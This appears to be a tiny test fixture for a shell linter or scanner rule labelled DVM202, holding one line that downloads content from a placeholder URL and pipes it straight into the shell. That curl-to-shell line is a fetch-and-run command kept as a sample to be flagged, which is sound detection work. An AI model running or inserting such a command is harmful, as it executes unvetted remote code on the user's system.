# expect: DVM202
url=https://x.example.org/a; curl -s "$url" | ${SHELL:-bash}
